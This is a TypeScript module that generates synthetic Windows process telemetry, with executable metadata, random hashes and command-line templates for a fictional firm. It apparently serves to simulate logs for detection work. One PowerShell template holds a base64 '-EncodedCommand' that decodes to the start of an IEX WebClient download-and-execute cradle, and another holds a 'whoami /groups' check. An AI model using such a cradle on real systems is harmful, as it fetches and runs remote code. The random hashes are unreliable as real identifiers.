import { type Random, random } from './random.ts';

export interface Executable {
  readonly path: string;
  readonly company: string;
  readonly product: string;
  readonly version: string;
  readonly hashes: string;
}

/** How a command line goes on: `#` stands for a number, `@` for eight hexadecimal digits. */
const programs: Readonly<Record<string, readonly [string, ...string[]]>> = {
  'C:\\Windows\\System32\\svchost.exe': [
    '-k netsvcs -p -s Schedule',
    '-k LocalServiceNetworkRestricted -p',
    '-k netsvcs -p -s gpsvc',
    '-k DcomLaunch -p',
  ],
  'C:\\Windows\\System32\\cmd.exe': [
    '/c "net use \\\\NW-APP#\\share$ /persistent:no && copy report-#.csv Z:\\ > nul 2>&1"',
    '/d /s /c "npm run build -- --id=@"',
    '/c whoami /groups | findstr /i "S-1-16-#"',
  ],
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe': [
    '-NoProfile -ExecutionPolicy Bypass -File "C:\\Skripte\\Inventur-#.ps1" -Ziel NW-WS#',
    '-NonInteractive -Command "Get-Service | Where-Object { $_.Status -eq \'Stopped\' } | Export-Csv C:\\Temp\\@.csv"',
    '-EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA@',
  ],
  'C:\\Windows\\System32\\conhost.exe': ['0xffffffff -ForceV1', '0x4'],
  'C:\\Windows\\System32\\taskhostw.exe': ['', 'SYSTEM', 'KEYROAMING'],
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe': ['-secured -Embedding', '-Embedding'],
  'C:\\Windows\\System32\\lsass.exe': [''],
  'C:\\Windows\\System32\\dns.exe': [''],
  'C:\\Windows\\System32\\rundll32.exe': [
    'C:\\Windows\\system32\\davclnt.dll,DavSetCookie 10.20.#.# http://files.nordwind.example/@/',
  ],
  'C:\\Windows\\explorer.exe': ['', '/factory,{75DFF2B7-6936-4C06-A8BB-676A7B00B24B} -Embedding'],
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE': [
    '',
    '/recycle',
    '-c IPM.Note /m "mailto:kasse#@nordwind.example?subject=Beleg&body=@"',
  ],
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe': [
    '--type=renderer --lang=de --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=# --time-ticks-at-unix-epoch=-#@ /prefetch:1',
    '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --mojo-platform-channel-handle=# /prefetch:8',
  ],
  'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe': [
    '--type=gpu-process --gpu-preferences=@@ --mojo-platform-channel-handle=# /prefetch:2',
  ],
  'C:\\Program Files\\Nordwind\\Kasse\\Kasse.exe': ['/filiale:# /beleg:@', '/abschluss'],
  'C:\\Program Files\\Backup\\agent.exe': ['run --job # --target \\\\NW-APP#\\backup$ --token @@@@'],
};

/** Each has the same hashes on every machine, as good programs do. */
export const executables: readonly [Executable, ...Executable[]] = describe();

/** The whole line with which a program is started. */
export function commandLine(chance: Random, { path }: Executable): string {
  const rest = chance.pick(programs[path] ?? ['']);
  const filled = rest.replace(/[#@]/g, (mark) => (mark === '#' ? String(chance.below(400)) : chance.hex(8)));
  return filled === '' ? path : `"${path}" ${filled}`;
}

function describe(): [Executable, ...Executable[]] {
  const chance = random(7);
  const [first, ...others] = Object.keys(programs).map((path) => {
    const isWindows = path.startsWith('C:\\Windows');
    const hash = (digits: number) => chance.hex(digits).toUpperCase();
    return {
      path,
      company: isWindows ? 'Microsoft Corporation' : 'Nordwind & Söhne GmbH',
      product: isWindows ? 'Microsoft® Windows® Operating System' : 'Nordwind <Kasse>',
      version: isWindows
        ? '10.0.19041.3636 (WinBuild.160101.0800)'
        : `7.${chance.below(9)}.${chance.below(99)}`,
      hashes: `SHA1=${hash(40)},MD5=${hash(32)},SHA256=${hash(64)},IMPHASH=${hash(32)}`,
    };
  });
  if (!first) throw new Error('There are no programs.');
  return [first, ...others];
}
